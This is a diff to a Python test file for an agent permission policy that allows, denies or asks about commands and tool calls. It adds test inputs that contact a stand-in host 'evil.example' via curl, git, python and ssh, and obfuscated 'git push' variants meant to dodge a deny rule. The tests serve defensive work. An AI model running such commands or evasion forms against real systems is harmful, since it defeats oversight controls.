@@ -176,6 +176,7 @@ def test_an_address_that_readers_may_take_for_another_is_no_ones() -> None:
         "curl evil.example",
         "git clone git@evil.example:a/b.git",
         "python -c 'get(\"http://EVIL.example/\")'",
+        "python -c 'get(\"evil.example\")'",
         "ssh me@evil.example",
     ],
 )
@@ -225,7 +226,16 @@ def test_a_deny_finds_a_command_wherever_it_stands(run: Run, command: str) -> No
 
 
 @pytest.mark.parametrize(
-    "command", ["$(echo git) push", "read x; $x push", "python -c 'push()'", "make release", "eval $A"]
+    "command",
+    [
+        "git $X push",
+        "git --git-dir $X push",
+        "$(echo git) push",
+        "read x; $x push",
+        "python -c 'push()'",
+        "make release",
+        "eval $A",
+    ],
 )
 def test_a_deny_asks_where_it_cannot_know(run: Run, command: str) -> None:
     decision = Policy(rules=(GIT_PUSH,)).decide(run(command, confinement=CONFINED))
@@ -374,6 +384,16 @@ def test_rules_speak_of_a_risk_of_what_cannot_be_taken_back_and_of_a_namespace()
         assert Policy(rules=(rule,)).decide(sending(to="x")).word == "deny"
         assert Policy(rules=(rule,)).decide(reading).word == "allow"
     assert [namespace_of(each) for each in ("git_hub__search", "mail_send", "search")] == ["git_hub", "mail", "search"]
+
+
+def test_what_an_argument_adds_is_judged_like_what_the_tool_does() -> None:
+    effects = Effects(does=frozenset(), also={"participants": "send"})
+
+    def word(**arguments: object) -> str:
+        facts = Facts(tool="make_event", effects=effects, arguments=arguments)
+        return Policy(rules=(Rule(word="deny", actions=("send",)),)).decide(facts).word
+
+    assert [word(), word(participants=[]), word(participants=["ann"])] == ["allow", "allow", "deny"]
 
 
 def test_a_limit_allows_nothing_and_is_counted_as_it_says(run: Run) -> None:
